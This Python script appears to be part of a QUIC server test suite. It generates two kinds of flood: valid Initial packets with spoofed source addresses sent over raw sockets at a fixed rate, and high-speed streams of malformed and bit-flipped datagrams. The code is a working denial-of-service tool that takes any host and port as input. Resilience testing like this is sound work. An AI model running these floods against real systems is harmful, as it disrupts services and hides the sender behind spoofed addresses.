"""Floods for scenarios_floods.py, run inside the attacker's namespace.

  attack.py initials CAPTURED HOST PORT COUNT     valid Initials, each of its own ID and spoofed source
  attack.py garbage CAPTURED HOST PORT SECONDS    noise, cut and bent packets, as fast as one core sends them
"""
import os
import random
import socket
import struct
import sys
import time

RATE_PER_S = 5000


def spoofed(host, port, payload, source, source_port):
    """An IPv4 UDP datagram with any source; the kernel fills in the IP checksum."""
    udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
    target = socket.inet_aton(host)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, target)
    return header + udp


def initials(captured, host, port, count):
    from initials import open_initial, seal_initial
    frames = open_initial(captured)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for number in range(count):
        source = bytes([10, 128 + number // 16384 % 128, number // 64 % 256, number % 64 + 1])
        raw.sendto(spoofed(host, port, seal_initial(frames), source, 1024 + number % 60000), (host, 0))
        ahead = number / RATE_PER_S - (time.monotonic() - start)
        if ahead > 0.01:
            time.sleep(ahead)
    print(f"{count} Initials in {time.monotonic() - start:.1f} s")


def bent(captured, chance):
    """One malformed datagram: noise, a truncated or bit-flipped Initial, a short header, an empty one."""
    kind = chance.randrange(8)
    if kind == 0:
        return b""
    if kind == 1:
        return captured[:chance.randrange(len(captured))]
    if kind == 2:
        return bytes([chance.randrange(0x40, 0x80)]) + os.urandom(chance.randrange(1400))
    if kind == 3:
        return bytes([chance.randrange(0x80, 0x100)]) + os.urandom(chance.randrange(1400))
    if kind == 4:  # version negotiation bait: unknown versions, odd connection ID lengths
        return b"\xc0" + os.urandom(4) + bytes([chance.randrange(256)]) + os.urandom(1200)
    data = bytearray(captured)
    for _ in range(chance.randrange(1, 9)):
        data[chance.randrange(min(len(data), 80) if kind == 5 else len(data))] ^= 1 << chance.randrange(8)
    return bytes(data)


def garbage(captured, host, port, seconds):
    chance = random.Random(7)
    batch = [bent(captured, chance) for _ in range(4000)]
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(64)]
    for each in sockets:
        each.connect((host, port))
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for index, packet in enumerate(batch):
            try:
                sockets[index & 63].send(packet)
                sent += 1
            except OSError:
                pass
    print(f"{sent} packets in {seconds} s")


if __name__ == "__main__":
    mode, path, host, port, amount = sys.argv[1:]
    with open(path, "rb") as file:
        {"initials": initials, "garbage": garbage}[mode](file.read(), host, int(port), int(amount))
